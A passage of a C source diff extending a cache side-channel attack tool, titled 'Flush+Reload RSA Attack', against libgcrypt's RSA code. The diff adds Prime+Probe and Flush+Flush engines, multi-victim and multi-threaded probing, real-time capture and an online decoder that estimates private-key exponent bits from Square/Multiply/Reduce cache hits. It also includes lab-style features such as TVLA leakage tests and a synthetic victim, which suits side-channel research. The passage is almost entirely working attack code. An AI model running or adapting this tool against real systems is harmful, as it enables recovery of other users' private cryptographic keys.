+    // new chain, so the loop's own probing, printing and page faults since
+    // the last one never count as preemption.
+    slot_start = probe_rdtsc();
+    while (slot_start < deadline) {
+      uint64_t prev = slot_start;
+      slot_start = probe_rdtsc();
+      rt_gap_note(&cap->gaps, prev, slot_start);
+    }
+    cap->last_tsc = slot_start;
+
+    uint64_t lateness = slot_start - deadline;
+    if (lateness > cap->max_lateness)
+      cap->max_lateness = lateness;
+    if (lateness >= slot_cycles) {
+      // Fell a whole slot behind: keep the grid, record the gap
+      for (int v = 0; v < num_targets; v++)
+        trace_record_missed(&targets[v].records[slot], deadline,
+                            targets[v].status
+                                ? harness_op_seq(targets[v].status)
+                                : 0);
+      cap->missed++;
+      slot++;
+      continue;
+    }
+
+    // With probe threads the leader only starts the slot; they probe
+    // and flag their own overruns
+    if (flags & CAPTURE_LINE_THREADS) {
+      trace_record_t *rec = &targets[0].records[slot];
+      rec->tsc = slot_start;
+      if (targets[0].status)
+        rec->op_seq = harness_op_seq(targets[0].status);
+      __atomic_store_n(&slot_clock.slot, slot + 1, __ATOMIC_RELEASE);
+      slot++;
+      continue;
+    }
+
+    for (int v = 0; v < num_targets; v++) {
+      capture_target_t *t = &targets[v];
+      trace_record_t *rec = &t->records[slot];
+      rec->tsc = v == 0 ? slot_start : probe_rdtsc();
+      if (t->status)
+        rec->op_seq = harness_op_seq(t->status);
+
+      for (int i = 0; i < 3; i++) {
+        uint64_t time;
+        skew_note(&cap->skew[i], probe_rdtsc() - deadline);
+        int hit = probe_func(&t->funcs[i], &time);
+        rec->latency[i] = record_latency(&t->funcs[i], time);
 
-      if (bit_count % 50 == 0) {
-        printf("%s\n", bit_sequence);
-        memset(bit_sequence, 0, sizeof(bit_sequence));
-        bit_count = 0;
+        // Print hits in real-time for debugging
+        if (hit && (flags & CAPTURE_VERBOSE))
+          printf("Slot %5d: %s hit (time=%lu)\n", slot, t->funcs[i].name,
+                 time);
       }
-    } else {
-      i++;
     }
+
+    // A slot whose work ran past its end (a page fault on a fresh trace
+    // page, preemption, printing) overruns
+    slot_end = probe_rdtsc();
+    cap->last_tsc = slot_end;
+    cap->probe_cycles += slot_end - slot_start;
+    if (slot_end > deadline + slot_cycles) {
+      for (int v = 0; v < num_targets; v++)
+        targets[v].records[slot].flags |= TRACE_SLOT_OVERRUN;
+      cap->overruns++;
+    }
+
+    slot++;
+
+    // Periodic status update
+    if (slot % 1000 == 0 && (flags & CAPTURE_VERBOSE))
+      printf("Captured %d time slots...\n", slot);
+  }
+  cap->slots = slot;
+}
+
+// One victim of a multi-victim capture: its status page, its own copy of the
+// library, and where its trace goes
+typedef struct {
+  char spec[512]; // STATUS:LIBRARY:TRACE, split in place
+  const char *status_name;
+  const char *library;
+  const char *output;
+  monitored_function_t funcs[3];
+  harness_status_t *status;
+  evset_pool_t pool;
+  trace_buffer_t buffer;
+  trace_header_t header;
+} victim_target_t;
+
+int parse_victim(victim_target_t *v, const char *arg) {
+  memset(v, 0, sizeof(*v));
+  snprintf(v->spec, sizeof(v->spec), "%s", arg);
+  char *lib = strchr(v->spec, ':');
+  char *out = lib ? strchr(lib + 1, ':') : NULL;
+  if (!out)
+    return -1;
+  *lib++ = '\0';
+  *out++ = '\0';
+  v->status_name = v->spec;
+  v->library = lib;
+  v->output = out;
+  return 0;
+}
+
+// Map a victim's library copy. Sharing its page cache pages is all
+// Flush+Reload needs; the text offsets equal the file offsets.
+int map_victim_library(victim_target_t *v) {
+  struct stat st;
+  int fd = open(v->library, O_RDONLY);
+  if (fd < 0 || fstat(fd, &st) < 0) {
+    perror(v->library);
+    if (fd >= 0)
+      close(fd);
+    return -1;
+  }
+  char *base = mmap(NULL, st.st_size, PROT_READ, MAP_SHARED, fd, 0);
+  close(fd);
+  if (base == MAP_FAILED) {
+    perror("mmap");
+    return -1;
+  }
+  init_rsa_funcs(v->funcs, base);
+  return 0;
+}
+
+// Capture several victims from one thread, each from its own library copy.
+// Every slot probes the three lines of each victim in turn and records them
+// in that victim's trace; a benchmark runs one such thread per LLC domain.
+int run_multi(victim_target_t *victims, int num_victims, int max_slots,
+              int level, int buffer_flags) {
+  capture_target_t targets[MAX_VICTIMS];
+  capture_t cap;
+  int ret = 0;
+
+  for (int v = 0; v < num_victims; v++) {
+    victim_target_t *vt = &victims[v];
+    if (map_victim_library(vt) < 0)
+      return 1;
+    printf("Victim %s: %s, Square at %p\n", vt->status_name, vt->library,
+           vt->funcs[0].address);
+    if (engine == TRACE_ENGINE_PRIME_PROBE &&
+        setup_prime_probe(vt->funcs, 3, level, &vt->pool) < 0)
+      return 1;
+    if (engine == TRACE_ENGINE_FLUSH_FLUSH)
+      setup_flush_flush(vt->funcs, 3);
+    if (trace_buffer_alloc(&vt->buffer, max_slots, buffer_flags) < 0) {
+      fprintf(stderr, "Failed to allocate trace buffer\n");
+      return 1;
+    }
+    init_trace_header(&vt->header, vt->funcs);
+    vt->status = harness_status_find(vt->status_name);
+    if (!vt->status)
+      fprintf(stderr, "Warning: no status page '%s', slots are not tagged\n",
+              vt->status_name);
+  }
+
+  printf("Capturing %d victims, %d slots of %lu cycles\n", num_victims,
+         max_slots, slot_cycles);
+
+  for (int v = 0; v < num_victims; v++)
+    targets[v] = (capture_target_t){victims[v].funcs, victims[v].buffer.records,
+                                    victims[v].status};
+  capture_slots(&cap, targets, num_victims, max_slots, 0);
+  int current_slot = cap.slots;
+  uint64_t span = cap.last_tsc - cap.t0;
+  uint64_t tsc_hz = harness_tsc_hz();
+  double slots_per_sec = span ? (double)current_slot * tsc_hz / span : 0;
+
+  printf("\n=== MULTI-VICTIM RESULTS ===\n");
+  printf("Slots: %d (%d overruns, %d missed, max lateness %lu cycles), "
+         "%.0f slots/s, %.0f victim-slots/s\n",
+         current_slot, cap.overruns, cap.missed, cap.max_lateness,
+         slots_per_sec, slots_per_sec * num_victims);
+  rt_gaps_print(&cap.gaps, tsc_hz, span);
+  for (int v = 0; v < num_victims; v++) {
+    victim_target_t *vt = &victims[v];
+    trace_file_t tf;
+
+    printf("%-12s", vt->status_name);
+    for (int i = 0; i < 3; i++) {
+      int hits = 0;
+      for (int j = 0; j < current_slot; j++)
+        hits += vt->buffer.records[j].latency[i] < vt->header.threshold;
+      printf(" %s %.2f%%", vt->funcs[i].name,
+             current_slot ? 100.0 * hits / current_slot : 0.0);
+    }
+    printf("\n");
+
+    vt->header.tsc_hz = tsc_hz;
+    if (trace_create(&tf, vt->output, &vt->header) < 0 ||
+        trace_append(&tf, vt->buffer.records, current_slot) < 0 ||
+        trace_close(&tf) < 0 || write_trace_index(vt->output) < 0) {
+      fprintf(stderr, "Failed to write trace %s\n", vt->output);
+      ret = 1;
+    }
+
+    harness_status_close(vt->status);
+    trace_buffer_free(&vt->buffer);
+    if (engine == TRACE_ENGINE_PRIME_PROBE) {
+      for (int i = 0; i < 3; i++)
+        evset_free(&vt->funcs[i].evset);
+    }
+    evset_pool_free(&vt->pool);
   }
+  return ret;
+}
+
+static void usage(const char *prog) {
+  fprintf(stderr,
+          "Usage: %s [--output FILE] [--slots N] [--quiet] [--tvla] [--synth] "
+          "[--traces N] [--bits N] [--status NAME]\n"
+          "          [--timer NAME] [--counter-cpu N] [--prefault] "
+          "[--hugepages] [--realtime]\n"
+          "          [--engine fr|pp|ff] [--level l1|llc] [--slot-cycles N]\n"
+          "          [--victim STATUS:LIBRARY:TRACE]... "
+          "[--line-threads CPU,CPU,...]\n"
+          "          [--online] [--decoder-cpu N] [--converge FRAC] "
+          "[--compress]\n"
+          "          [--idle-floor N]\n",
+          prog);
+  fprintf(stderr, "  --output FILE  save the capture as a trace file\n");
+  fprintf(stderr, "  --slots N      time slots to capture (default: %d)\n",
+          MAX_SLOTS);
+  fprintf(stderr, "  --quiet        do not print individual hits\n");
+  fprintf(stderr, "  --tvla         fixed-vs-random leakage assessment "
+                  "(run the victim with --tvla)\n");
+  fprintf(stderr, "  --traces N     traces per class for --tvla "
+                  "(default: 10000)\n");
+  fprintf(stderr, "  --synth        score against victim_synth\n");
+  fprintf(stderr, "  --bits N       bits to score for --synth "
+                  "(default: 100000)\n");
+  fprintf(stderr, "  --status NAME  victim status page name "
+                  "(default: rsa, or synth with --synth)\n");
+  fprintf(stderr, "  --timer NAME   probe timer: rdtsc, rdtscp or counter "
+                  "(default: rdtsc)\n");
+  fprintf(stderr, "  --counter-cpu N  pin the counter timer thread to core "
+                  "N\n");
+  fprintf(stderr, "  --prefault     touch and mlock the trace buffer before "
+                  "capturing\n");
+  fprintf(stderr, "  --hugepages    back the trace buffer with 2 MB pages "
+                  "(implies --prefault)\n");
+  fprintf(stderr, "  --realtime     capture under SCHED_FIFO and check the "
+                  "core for isolcpus/nohz_full\n");
+  fprintf(stderr, "  --engine NAME  fr (Flush+Reload, default), pp "
+                  "(Prime+Probe) or ff (Flush+Flush)\n");
+  fprintf(stderr, "  --level NAME   cache for Prime+Probe: l1 or llc "
+                  "(default: llc)\n");
+  fprintf(stderr, "  --victim STATUS:LIBRARY:TRACE  capture this victim "
+                  "from its own library copy;\n"
+                  "                 repeat for several victims in one "
+                  "thread (up to %d)\n",
+          MAX_VICTIMS);
+  fprintf(stderr, "  --slot-cycles N  TSC cycles per time slot (default: "
+                  "%d)\n",
+          TIME_SLOT_CYCLES);
+  fprintf(stderr, "  --line-threads CPU,CPU,...  probe the lines from one "
+                  "thread per listed core,\n"
+                  "                 lines dealt round-robin (up to %d)\n",
+          MAX_LINE_THREADS);
+  fprintf(stderr, "  --online       decode in a second thread while "
+                  "capturing\n");
+  fprintf(stderr, "  --decoder-cpu N  run the online decoder on core N "
+                  "(default: any core but the\n"
+                  "                 capture loop's)\n");
+  fprintf(stderr, "  --compress     store the --output trace with lossless "
+                  "RLE (trace_tool --info)\n");
+  fprintf(stderr, "  --idle-floor N  store slots with every latency at or "
+                  "above N as idle runs,\n"
+                  "                 lossy (implies --compress)\n");
+  fprintf(stderr, "  --converge FRAC  stop once FRAC of the estimated bits "
+                  "are stable (implies --online)\n");
+}
 
-  if (bit_count > 0) {
-    printf("%s\n", bit_sequence);
+// "0,2,4" -> {0, 2, 4}; returns the count or -1
+static int parse_cpu_list(const char *list, int *cpus, int max) {
+  int n = 0;
+  const char *p = list;
+
+  while (*p) {
+    char *end;
+    long cpu = strtol(p, &end, 10);
+    if (end == p || cpu < 0 || n == max)
+      return -1;
+    cpus[n++] = cpu;
+    if (*end == ',')
+      end++;
+    else if (*end)
+      return -1;
+    p = end;
   }
+  return n ? n : -1;
 }
 
 int main(int argc, char *argv[]) {
   void *lib_handle;
   monitored_function_t funcs[3];
-  uint64_t slot_start, slot_end;
-  int current_slot = 0;
-  int threshold = THRESHOLD;
+  int max_slots = MAX_SLOTS;
+  int quiet = 0;
+  int tvla = 0, synth = 0;
+  uint64_t tvla_traces = 10000;
+  uint64_t synth_bits = 100000;
+  const char *status_name = NULL;
+  const char *output = NULL;
+  int counter_cpu = -1;
+  int buffer_flags = 0;
+  int realtime = 0;
+  int level = CACHE_LLC;
+  evset_pool_t pool = {0};
+  static victim_target_t victims[MAX_VICTIMS];
+  int num_victims = 0;
+  int line_cpus[MAX_LINE_THREADS];
+  int num_line_threads = 0;
+  int online = 0;
+  int decoder_cpu = -1;
+  double converge = 0;
+  trace_buffer_t buffer;
+  trace_record_t *trace;
+  trace_header_t header;
+
+  static const struct option long_options[] = {
+      {"output", required_argument, NULL, 'o'},
+      {"slots", required_argument, NULL, 'S'},
+      {"quiet", no_argument, NULL, 'q'},
+      {"tvla", no_argument, NULL, 'T'},
+      {"synth", no_argument, NULL, 'Y'},
+      {"traces", required_argument, NULL, 'n'},
+      {"bits", required_argument, NULL, 'b'},
+      {"status", required_argument, NULL, 's'},
+      {"timer", required_argument, NULL, 't'},
+      {"counter-cpu", required_argument, NULL, 'c'},
+      {"prefault", no_argument, NULL, 'P'},
+      {"hugepages", no_argument, NULL, 'H'},
+      {"realtime", no_argument, NULL, 'R'},
+      {"engine", required_argument, NULL, 'e'},
+      {"level", required_argument, NULL, 'l'},
+      {"slot-cycles", required_argument, NULL, 'C'},
+      {"victim", required_argument, NULL, 'V'},
+      {"line-threads", required_argument, NULL, 'L'},
+      {"online", no_argument, NULL, 'O'},
+      {"decoder-cpu", required_argument, NULL, 'D'},
+      {"converge", required_argument, NULL, 'G'},
+      {"compress", no_argument, NULL, 'Z'},
+      {"idle-floor", required_argument, NULL, 'F'},
+      {"help", no_argument, NULL, 'h'},
+      {NULL, 0, NULL, 0},
+  };
+  int opt;
+  while ((opt = getopt_long(argc, argv, "o:S:qTYn:b:s:t:c:PHRe:l:C:V:L:OD:G:ZF:h",
+                            long_options, NULL)) != -1) {
+    switch (opt) {
+    case 'o':
+      output = optarg;
+      break;
+    case 'S':
+      max_slots = atoi(optarg);
+      break;
+    case 'q':
+      quiet = 1;
+      break;
+    case 'T':
+      tvla = 1;
+      break;
+    case 'Y':
+      synth = 1;
+      break;
+    case 'n':
+      tvla_traces = strtoull(optarg, NULL, 0);
+      break;
+    case 'b':
+      synth_bits = strtoull(optarg, NULL, 0);
+      break;
+    case 's':
+      status_name = optarg;
+      break;
+    case 't':
+      if (probe_timer_parse(optarg, &timer) < 0) {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    case 'c':
+      counter_cpu = atoi(optarg);
+      break;
+    case 'P':
+      buffer_flags |= TRACE_BUF_PREFAULT;
+      break;
+    case 'H':
+      buffer_flags |= TRACE_BUF_HUGEPAGE;
+      break;
+    case 'R':
+      realtime = 1;
+      break;
+    case 'e':
+      if (strcmp(optarg, "fr") == 0) {
+        engine = TRACE_ENGINE_FLUSH_RELOAD;
+      } else if (strcmp(optarg, "pp") == 0) {
+        engine = TRACE_ENGINE_PRIME_PROBE;
+      } else if (strcmp(optarg, "ff") == 0) {
+        engine = TRACE_ENGINE_FLUSH_FLUSH;
+      } else {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    case 'l':
+      if (strcmp(optarg, "l1") == 0) {
+        level = CACHE_L1D;
+      } else if (strcmp(optarg, "llc") == 0) {
+        level = CACHE_LLC;
+      } else {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    case 'C':
+      slot_cycles = strtoull(optarg, NULL, 0);
+      break;
+    case 'V':
+      if (num_victims == MAX_VICTIMS ||
+          parse_victim(&victims[num_victims], optarg) < 0) {
+        usage(argv[0]);
+        return 1;
+      }
+      num_victims++;
+      break;
+    case 'L':
+      num_line_threads = parse_cpu_list(optarg, line_cpus, MAX_LINE_THREADS);
+      if (num_line_threads < 0) {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    case 'O':
+      online = 1;
+      break;
+    case 'D':
+      decoder_cpu = atoi(optarg);
+      online = 1;
+      if (decoder_cpu < 0 || decoder_cpu >= CPU_SETSIZE) {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    case 'Z':
+      compress_traces = 1;
+      break;
+    case 'F':
+      idle_floor = strtol(optarg, NULL, 0);
+      compress_traces = 1;
+      if (idle_floor < 0 || idle_floor > 0xffff) {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    case 'G':
+      converge = atof(optarg);
+      online = 1;
+      if (converge <= 0 || converge > 1) {
+        usage(argv[0]);
+        return 1;
+      }
+      break;
+    default:
+      usage(argv[0]);
+      return opt == 'h' ? 0 : 1;
+    }
+  }
 
-  printf("Flush+Reload RSA Attack (PID: %d)\n", getpid());
+  if (!status_name)
+    status_name = synth ? "synth" : "rsa";
+  if (slot_cycles == 0) {
+    usage(argv[0]);
+    return 1;
+  }
+  if (online && num_line_threads > 0) {
+    // Probe threads fill in latencies only after the capture
+    fprintf(stderr, "--online cannot be combined with --line-threads\n");
+    return 1;
+  }
+
+  const char *engine_titles[] = {"Flush+Reload", "Prime+Probe", "Flush+Flush"};
+  printf("%s RSA Attack (PID: %d)\n", engine_titles[engine], getpid());
+
+  if (probe_timer_start(timer, counter_cpu) < 0)
+    return 1;
+  if (timer != PROBE_TIMER_RDTSC)
+    calibrate_timer();
 
   signal(SIGTERM, signal_handler);
   signal(SIGINT, signal_handler);
 
+  if (num_victims > 0) {
+    if (max_slots <= 0) {
+      usage(argv[0]);
+      return 1;
+    }
+    int ret = run_multi(victims, num_victims, max_slots, level, buffer_flags);
+    probe_timer_stop(timer);
+    return ret;
+  }
+
+  if (synth) {
+    harness_status_t *status = harness_status_open(status_name);
+    if (!status) {
+      fprintf(stderr, "Synthetic mode needs a running victim_synth\n");
+      return 1;
+    }
+    if (map_synth_targets(funcs, status) < 0) {
+      harness_status_close(status);
+      return 1;
+    }
+    printf("Monitoring synthetic target lines %p and %p\n", funcs[0].address,
+           funcs[1].address);
+    if (engine == TRACE_ENGINE_PRIME_PROBE &&
+        setup_prime_probe(funcs, 2, level, &pool) < 0) {
+      harness_status_close(status);
+      return 1;
+    }
+    if (engine == TRACE_ENGINE_FLUSH_FLUSH)
+      setup_flush_flush(funcs, 2);
+    int ret = run_synth(funcs, status, synth_bits);
+    harness_status_close(status);
+    evset_pool_free(&pool);
+    return ret;
+  }
+
   lib_handle = dlopen("./lib/libgcrypt.so.11.6.0", RTLD_NOW);
   if (!lib_handle) {
     fprintf(stderr, "Failed to load libgcrypt: %s\n", dlerror());
@@ -142,7 +1335,7 @@ int main(int argc, char *argv[]) {
   }
   printf("Library handle: %p\n", lib_handle);
 
-  void *base_addr = get_library_base_address();
+  void *base_addr = harness_library_base("libgcrypt.so");
   if (!base_addr) {
     fprintf(stderr, "Failed to get library base address\n");
     dlclose(lib_handle);
@@ -151,65 +1344,213 @@ int main(int argc, char *argv[]) {
   printf("Library base address: %p\n", base_addr);
 
   // Setup monitoring for square, multiply, and reduce functions
-  funcs[0].address = (char *)base_addr + SQR_OFFSET;
-  strcpy(funcs[0].name, "Square");
-  funcs[0].slot_count = 0;
-
-  funcs[1].address = (char *)base_addr + MUL_OFFSET;
-  strcpy(funcs[1].name, "Multiply");
-  funcs[1].slot_count = 0;
-
-  funcs[2].address = (char *)base_addr + RED_OFFSET;
-  strcpy(funcs[2].name, "Reduce");
-  funcs[2].slot_count = 0;
+  init_rsa_funcs(funcs, base_addr);
 
   printf("\nMonitoring functions:\n");
   for (int i = 0; i < 3; i++) {
     printf("  %s: %p\n", funcs[i].name, funcs[i].address);
   }
 
-  printf("\nUsing threshold: %d cycles\n", threshold);
-  printf("Starting attack... Press Ctrl+C to stop\n\n");
+  if (engine == TRACE_ENGINE_PRIME_PROBE) {
+    if (setup_prime_probe(funcs, 3, level, &pool) < 0) {
+      dlclose(lib_handle);
+      return 1;
+    }
+  } else if (engine == TRACE_ENGINE_FLUSH_FLUSH) {
+    setup_flush_flush(funcs, 3);
+  } else {
+    printf("\nUsing threshold: %d (%s timer)\n", threshold,
+           probe_timer_name(timer));
+  }
 
-  // Main attack loop with fixed time slots
-  while (running && current_slot < MAX_SLOTS) {
-    slot_start = rdtsc();
+  if (tvla) {
+    harness_status_t *status = harness_status_open(status_name);
+    if (!status) {
+      fprintf(stderr, "TVLA needs a running victim (victim_rsa --tvla)\n");
+      dlclose(lib_handle);
+      return 1;
+    }
+    int ret = run_tvla(funcs, 3, status, tvla_traces);
+    harness_status_close(status);
+    evset_pool_free(&pool);
+    dlclose(lib_handle);
+    return ret;
+  }
 
-    // Probe each monitored function
-    for (int i = 0; i < 3; i++) {
-      uint64_t time;
-      int hit = probe(funcs[i].address, &time);
-      funcs[i].timing_history[current_slot] = time;
+  if (max_slots <= 0) {
+    usage(argv[0]);
+    dlclose(lib_handle);
+    return 1;
+  }
+  if (trace_buffer_alloc(&buffer, max_slots, buffer_flags) < 0) {
+    fprintf(stderr, "Failed to allocate trace buffer\n");
+    dlclose(lib_handle);
+    return 1;
+  }
 
-      // Print hits in real-time for debugging
-      if (hit) {
-        printf("Slot %5d: %s hit (time=%lu)\n", current_slot, funcs[i].name,
-               time);
-      }
-    }
+  trace = buffer.records;
+  printf("Trace buffer: %zu bytes, %s\n", buffer.bytes,
+         trace_buffer_describe(&buffer));
 
-    // Wait until end of time slot
-    do {
-      slot_end = rdtsc();
-    } while ((slot_end - slot_start) < TIME_SLOT_CYCLES);
+  // Record the environment of the capture in the trace header
+  init_trace_header(&header, funcs);
+  printf("Load profile: %s\n", header.load_profile);
 
-    current_slot++;
+  // Tag slots with the victim's operation sequence when it publishes one
+  harness_status_t *victim = harness_status_find(status_name);
 
-    // Periodic status update
-    if (current_slot % 1000 == 0) {
-      printf("Captured %d time slots...\n", current_slot);
+  if (realtime) {
+    printf("\nReal-time capture:\n");
+    int prio = rt_enable_fifo();
+    if (prio < 0)
+      printf("  SCHED_FIFO: not permitted (%s), staying SCHED_OTHER\n",
+             strerror(errno));
+    else
+      printf("  SCHED_FIFO: priority %d\n", prio);
+    int cpu = rt_pinned_cpu();
+    if (cpu < 0)
+      printf("  not pinned to a single core (run under taskset -c N)\n");
+    else
+      rt_report_isolation(cpu);
+  }
+
+  // Opened before the probe threads start: an inherited counter only covers
+  // threads created after it
+  int llc_misses = perf_llc_open();
+  int perf_errno = errno;
+
+  line_thread_t line_threads[MAX_LINE_THREADS];
+  if (num_line_threads > 0) {
+    if (start_line_threads(line_threads, line_cpus, num_line_threads, funcs, 3,
+                           max_slots) < 0) {
+      perf_close(llc_misses);
+      trace_buffer_free(&buffer);
+      dlclose(lib_handle);
+      return 1;
+    }
+    printf("Probe threads:");
+    for (int t = 0; t < num_line_threads; t++) {
+      printf(" cpu %d [", line_cpus[t]);
+      for (int k = 0; k < line_threads[t].num_lines; k++)
+        printf("%s%s", k ? " " : "", funcs[line_threads[t].lines[k]].name);
+      printf("]");
     }
+    printf("\n");
+  }
+
+  static online_decoder_t decoder;
+  if (online) {
+    decoder.trace = trace;
+    decoder.threshold = header.threshold;
+    decoder.converge = converge;
+    decoder.quiet = quiet;
+    rsa_online_init(&decoder.state);
+    if (start_online_decoder(&decoder, decoder_cpu) != 0) {
+      fprintf(stderr, "Failed to start the online decoder\n");
+      online = 0;
+    }
+  }
+
+  printf("Starting attack... Press Ctrl+C to stop\n\n");
+
+  capture_target_t target = {funcs, trace, victim};
+  capture_t cap;
+  int flags = (quiet ? 0 : CAPTURE_VERBOSE) | (online ? CAPTURE_ONLINE : 0) |
+              (num_line_threads > 0 ? CAPTURE_LINE_THREADS : 0);
+  perf_enable(llc_misses);
+  capture_slots(&cap, &target, 1, max_slots, flags);
+  int current_slot = cap.slots;
+  int overruns = cap.overruns, missed = cap.missed;
+  uint64_t t0 = cap.t0, last_tsc = cap.last_tsc;
+  uint64_t probe_cycles = cap.probe_cycles;
+  skew_stats_t *skew = cap.skew;
+
+  if (online) {
+    __atomic_store_n(&published_slots, current_slot, __ATOMIC_RELEASE);
+    __atomic_store_n(&capture_done, 1, __ATOMIC_RELEASE);
+    pthread_join(decoder.tid, NULL);
+  }
+  int started = current_slot - missed; // slots the leader published
+  if (num_line_threads > 0) {
+    overruns = stop_line_threads(line_threads, num_line_threads, trace,
+                                 current_slot, skew, &missed);
+    last_tsc = probe_rdtsc();
   }
+  perf_disable(llc_misses);
 
   // Analyze results
   printf("\n=== ATTACK COMPLETED ===\n");
   printf("Total slots captured: %d\n", current_slot);
+  printf("Slot overruns: %d (%.3f%%), missed slots: %d, max lateness %lu "
+         "cycles\n",
+         overruns, current_slot ? 100.0 * overruns / current_slot : 0.0,
+         missed, cap.max_lateness);
+  printf("Trace buffer: %s\n", trace_buffer_describe(&buffer));
+  header.tsc_hz = harness_tsc_hz();
+  rt_gaps_print(&cap.gaps, header.tsc_hz, last_tsc - t0);
+
+  int sampled = current_slot - missed;
+  if (sampled > 0) {
+    printf("Probe start skew from slot deadline (cycles):\n");
+    for (int i = 0; i < 3; i++) {
+      if (skew[i].count == 0) {
+        printf("  %-10s no samples\n", funcs[i].name);
+        continue;
+      }
+      double mean = skew[i].sum / skew[i].count;
+      double var = skew[i].sumsq / skew[i].count - mean * mean;
+      printf("  %-10s mean %.0f, stddev %.0f, max %lu over %lu slots\n",
+             funcs[i].name, mean, var > 0 ? sqrt(var) : 0.0, skew[i].max,
+             skew[i].count);
+    }
+  }
+  if (num_line_threads > 0 && sampled > 0) {
+    // Slot resolution: a slot can be no shorter than its busiest prober.
+    // The sum is what one thread probing every line would need.
+    double busiest = 0, serial = 0;
+    for (int t = 0; t < num_line_threads; t++) {
+      double per_slot = line_threads[t].sampled
+                            ? (double)line_threads[t].busy /
+                                  line_threads[t].sampled
+                            : 0;
+      serial += per_slot;
+      if (per_slot > busiest)
+        busiest = per_slot;
+    }
+    for (int t = 0; t < num_line_threads; t++)
+      printf("Probe thread on cpu %d: %lu of %d slots probed (%.1f%%)\n",
+             line_threads[t].cpu, line_threads[t].sampled, started,
+             started ? 100.0 * line_threads[t].sampled / started : 0.0);
+    printf("Slot resolution: %.0f cycles (busiest of %d threads) vs %.0f for "
+           "one thread probing every line\n",
+           busiest, num_line_threads, serial);
+    probe_cycles = serial * sampled;
+  }
+  if (sampled > 0 && last_tsc > t0) {
+    printf("Probe cost (%s): %.0f cycles per slot, %.0f per line (%.1f%% "
+           "of %lu), %.0f slots/s\n",
+           trace_engine_name(engine), (double)probe_cycles / sampled,
+           (double)probe_cycles / sampled / 3,
+           100.0 * probe_cycles / sampled / slot_cycles, slot_cycles,
+           (double)current_slot * header.tsc_hz / (last_tsc - t0));
+
+    // What a miss-rate detector watching this process would see
+    if (llc_misses >= 0) {
+      uint64_t misses = perf_read(llc_misses);
+      printf("LLC misses: %lu (%.2f per slot, %.0f per ms)\n", misses,
+             (double)misses / sampled,
+             misses * (header.tsc_hz / 1e3) / (last_tsc - t0));
+    } else {
+      printf("LLC misses: unavailable (%s)\n", strerror(perf_errno));
+    }
+  }
+  perf_close(llc_misses);
 
   // Count hits for each function
   for (int i = 0; i < 3; i++) {
     int hits = 0;
     for (int j = 0; j < current_slot; j++) {
-      if (funcs[i].timing_history[j] < threshold) {
+      if (trace[j].latency[i] < header.threshold) {
         hits++;
       }
     }
@@ -217,9 +1558,71 @@ int main(int argc, char *argv[]) {
            (float)hits / current_slot * 100);
   }
 
+  char profile_end[TRACE_PROFILE_LEN];
+  current_load_profile(profile_end, sizeof(profile_end));
+  header.load_changed = strcmp(profile_end, header.load_profile) != 0;
+  if (header.load_changed)
+    printf("Warning: load profile changed to '%s' during capture\n",
+           profile_end);
+
   // Analyze bit patterns
-  analyze_results(funcs, 3, current_slot);
+  analyze_results(trace, current_slot, header.threshold);
+
+  if (online) {
+    const rsa_convergence_t *conv = &decoder.conv;
+    printf("\n=== ONLINE DECODER ===\n");
+    printf("Operations: %lu (%lu decoded)\n", decoder.state.segments,
+           decoder.state.scored);
+    printf("Estimated bits: %zu, stable %zu (%.1f%%), est. error %.2f%%\n",
+           conv->len, conv->stable,
+           conv->len ? 100.0 * conv->stable / conv->len : 0.0,
+           100 * conv->est_error);
+    if (converge > 0) {
+      if (decoder.converged_slots)
+        printf("Converged to %.1f%% stable after %zu slots\n",
+               100 * converge, decoder.converged_slots);
+      else
+        printf("Did not converge to %.1f%% stable\n", 100 * converge);
+    }
+    printf("\nMajority estimate:\n");
+    for (size_t i = 0; i < conv->len; i += 50) {
+      int len = conv->len - i < 50 ? conv->len - i : 50;
+      printf("%.*s\n", len, decoder.state.estimate + i);
+    }
+  }
 
+  int ret = 0;
+  if (output) {
+    trace_file_t tf;
+    if (trace_create(&tf, output, &header) < 0) {
+      ret = 1;
+    } else {
+      if (trace_append(&tf, trace, current_slot) < 0)
+        ret = 1;
+      if (trace_close(&tf) < 0)
+        ret = 1;
+      if (ret)
+        fprintf(stderr, "Failed to write trace %s\n", output);
+      else if (compress_traces)
+        printf("\nTrace written to %s (%d slots, %lu bytes, %.1fx smaller "
+               "than raw)\n",
+               output, current_slot, tf.bytes,
+               (double)current_slot * sizeof(trace_record_t) / tf.bytes);
+      else
+        printf("\nTrace written to %s (%d slots)\n", output, current_slot);
+      if (!ret && write_trace_index(output) < 0)
+        ret = 1;
+    }
+  }
+
+  harness_status_close(victim);
+  trace_buffer_free(&buffer);
+  if (engine == TRACE_ENGINE_PRIME_PROBE) {
+    for (int i = 0; i < 3; i++)
+      evset_free(&funcs[i].evset);
+  }
+  evset_pool_free(&pool);
+  probe_timer_stop(timer);
   dlclose(lib_handle);
-  return 0;
+  return ret;
 }